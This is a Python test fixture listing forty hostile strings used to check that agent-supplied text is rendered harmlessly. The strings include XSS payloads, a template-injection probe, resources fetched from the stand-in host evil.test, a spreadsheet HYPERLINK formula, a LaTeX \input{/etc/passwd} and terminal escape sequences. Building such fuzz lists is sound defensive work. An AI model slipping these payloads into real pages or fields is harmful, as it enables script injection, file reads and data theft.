"""Forty texts that an agent could hand us in any field, to see that none of them does anything.

Scripts and event handlers that would show themselves (`alert`, a request to evil.test), ways out
of attributes, comments and raw elements, styles that would fetch, terminal commands, overrides of
the direction, control characters, huge lines, and markup of libraries that we print or write with.
"""

HOSTILE: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "</script><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    "</title><script>alert(4)</script>",
    "</textarea></td></table><script>alert(5)</script>",
    "<img src=x onerror=alert(6)>",
    "<img src=http://evil.test/pixel.png>",
    "<svg onload=alert(7)><circle r=9></svg>",
    "<svg><script>alert(8)</script></svg>",
    "<math><mtext></math><img src onerror=alert(9)>",
    "<body onload=alert(10)>",
    "<iframe srcdoc='<script>alert(11)</script>'></iframe>",
    "<iframe src=javascript:alert(12)></iframe>",
    "<object data=http://evil.test/x.swf></object>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<style>@import 'http://evil.test/y.css'; body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test/><button autofocus onfocus=alert(13)>x",
    "<details open ontoggle=alert(14)>",
    "<a href=javascript:alert(15)>click</a>",
    "<input autofocus onfocus=alert(16)>",
    '" onmouseover="alert(17)" x="',
    "' onfocus='alert(18)' autofocus x='",
    "` onload=`alert(19)",
    "--><script>alert(20)</script><!--",
    "]]><script>alert(21)</script><![CDATA[",
    "&lt;script&gt;alert(22)&lt;/script&gt; &#60;script&#62; &amp;",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(23)} #{alert(24)} <%= alert(25) %>",
    "[bold red]markup[/] [link=http://evil.test/]text[/link] [/nothing]",
    "$\\frac{1}{2}$ \\input{/etc/passwd} $unclosed_{math",
    '=HYPERLINK("http://evil.test/","x")',
    "| a | b |\n| --- | --- |\n![x](http://evil.test/y.png) `code` @everyone",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.test/\x07link\x1b]8;;\x07\x1b[2J\x1b[?25l",
    "\u202eevil\u202c \u2066isolated\u2069 \u200bzero\u200d\ufeff width",
    "\x00\x01\x08\x0b\x7f\x85\x9b31m\r\nline two\u2028line three\u2029\ufffe",
    "\U0001f469\u200d\U0001f680" + "e" + "\u0301" * 200 + "\u0e33\u0627\u0644\u0639",
    "x" * 20_000 + "<script>alert(26)</script>",
)
